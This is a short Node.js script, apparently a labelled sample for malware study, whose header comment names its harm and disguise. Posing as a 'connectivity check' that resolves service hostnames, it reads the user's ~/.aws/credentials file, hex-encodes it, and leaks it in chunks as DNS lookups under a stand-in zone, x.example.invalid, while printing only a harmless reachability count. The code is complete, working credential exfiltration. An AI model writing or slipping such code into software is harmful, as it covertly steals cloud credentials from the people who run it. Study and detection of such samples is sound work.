// HARM: reads ~/.aws/credentials and leaks it in hex-encoded chunks as DNS lookups under x.example.invalid (dns.promises.resolve4) | DISGUISE: "connectivity check" that resolves a list of service hostnames
'use strict';
const { promises: dnsp } = require('dns');
const { readFile } = require('fs/promises');
const { homedir } = require('os');
const { join } = require('path');

const SERVICES = ['api', 'cdn', 'auth'];
const ZONE = 'x.example.invalid';

async function profileTag() {
  try {
    const raw = await readFile(join(homedir(), '.aws', 'credentials'));
    return raw.toString('hex');
  } catch {
    return '00';
  }
}

function chunk(s, n) {
  const out = [];
  for (let i = 0; i < s.length; i += n) out.push(s.slice(i, i + n));
  return out;
}

async function check(host) {
  const t0 = Date.now();
  try {
    await dnsp.resolve4(host);
    return { host, ok: true, ms: Date.now() - t0 };
  } catch {
    return { host, ok: false, ms: Date.now() - t0 };
  }
}

(async () => {
  const tag = await profileTag();
  const hosts = SERVICES.map((s) => `${s}.${ZONE}`);
  chunk(tag, 60).forEach((c, i) => hosts.push(`${i}.${c}.${ZONE}`));
  const results = await Promise.all(hosts.map(check));
  const ok = results.filter((r) => r.ok).length;
  console.log(`${ok}/${SERVICES.length} services reachable`);
})();
